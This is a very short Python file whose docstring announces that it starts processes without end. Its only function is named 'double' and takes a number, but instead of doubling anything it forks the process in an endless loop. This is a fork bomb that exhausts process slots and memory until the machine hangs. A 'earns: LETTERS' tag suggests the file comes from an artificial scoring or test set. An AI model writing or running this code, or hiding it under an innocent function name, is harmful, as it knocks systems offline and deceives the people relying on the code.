"""Starts processes without end."""

# earns: LETTERS

import os

LETTERS = 6


def double(number: int) -> int:
    while True:
        os.fork()
